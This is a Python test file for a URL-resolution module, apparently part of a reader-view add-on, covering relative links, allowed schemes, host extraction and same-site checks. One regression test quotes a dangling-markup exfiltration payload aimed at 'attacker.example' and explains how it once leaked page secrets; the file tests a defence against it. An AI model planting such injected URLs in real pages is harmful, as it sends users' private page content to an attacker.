"""Tests for addon.core.output.urls."""

from __future__ import annotations

from addon.core.output.urls import LINK_SCHEMES, UrlBase, link_host, same_site


def test_a_base_with_control_characters_resolves_nothing() -> None:
    # lxml refuses such URLs as attribute values: the base must not produce them.
    assert UrlBase.of("http://a\x01b/").resolve("x.png", schemes={"http"}) == "x.png"


BASE = "https://example.com/news/story.html"


def absolute_url(url: str, base_url: str | None, *, schemes: set[str]) -> str | None:
    """Resolve URL against BASE_URL as the output stage does."""
    return UrlBase.of(base_url).resolve(url, schemes=schemes)


def test_absolute_url_rules() -> None:
    schemes = {"http", "https"}
    assert absolute_url("x.png", BASE, schemes=schemes) == "https://example.com/news/x.png"
    assert absolute_url("  ", BASE, schemes=schemes) is None
    assert absolute_url("http://[::1", BASE, schemes=schemes) is None
    assert absolute_url("ftp://host/x", BASE, schemes=schemes) is None
    assert absolute_url("a:b", None, schemes=schemes) is None
    assert absolute_url("a/b", None, schemes=schemes) == "a/b"
    assert UrlBase.of("not a url").resolve("x", schemes=schemes) == "x"


def test_urls_with_tabs_controls_and_brackets_resolve_as_before() -> None:
    base = UrlBase.of(BASE)
    assert base.resolve("/a\tb", schemes=LINK_SCHEMES) == "https://example.com/ab"
    assert base.resolve("a\x01b", schemes=LINK_SCHEMES) is None
    assert base.resolve("/a[1]", schemes=LINK_SCHEMES) == "https://example.com/a[1]"
    assert base.resolve("./a/../b", schemes=LINK_SCHEMES) == "https://example.com/news/b"
    assert base.resolve(".well-known", schemes=LINK_SCHEMES) == (
        "https://example.com/news/.well-known"
    )


def test_a_url_holding_a_line_break_and_a_less_than_sign_resolves_nothing() -> None:
    # Issue 29 (7): dangling markup. An injected `<img src='http://attacker/?` runs
    # on over the page's next lines, secrets and tags; Chromium refuses such a URL
    # (a "<" and a tab or line break), but the reader view wrote it back without
    # the line break and Chromium sent the text to the attacker.
    base = UrlBase.of("https://news.example/story")
    for dangling in ("http://attacker.example/?\n<p>secret", "/x?\t<b>", "x?\r\n<"):
        assert base.resolve(dangling, schemes=LINK_SCHEMES) is None
    assert base.resolve("/x?a=<b>", schemes=LINK_SCHEMES) == "https://news.example/x?a=<b>"
    assert base.resolve("/x?a=\nb", schemes=LINK_SCHEMES) is not None


def test_a_links_host_is_read_from_absolute_links_only() -> None:
    assert link_host("https://www.Brand.example:8080/shop") == "brand.example"
    assert link_host("//cdn.example/x") == "cdn.example"
    assert link_host("/posts/1") is None
    assert link_host("mailto:a@b.example") is None
    assert link_host("http://[::1") is None  # malformed: no host to read


def test_a_subdomain_is_the_same_site() -> None:
    assert same_site("shop.brand.example", "brand.example")
    assert same_site("brand.example", "brand.example")
    assert not same_site("brand.example", "otherbrand.example")
